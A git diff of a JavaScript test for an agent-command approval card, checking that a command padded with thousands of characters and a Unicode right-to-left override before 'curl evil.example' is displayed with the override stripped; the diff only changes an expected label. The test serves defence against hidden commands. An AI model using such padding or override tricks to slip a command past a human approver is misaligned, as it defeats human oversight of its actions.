@@ -35,7 +35,7 @@ describe('an approval card', () => {
     const { container } = approval()
     expect(container.textContent).toContain(`echo ${'x'.repeat(4000)}U+202E; curl evil.example`)
     expect(container.textContent).not.toContain('\u202e')
-    expect(container.textContent).toContain('hidden from the agent')
+    expect(container.textContent).toContain('not shown here')
   })
 
   it('hears nothing in its first half second', async () => {
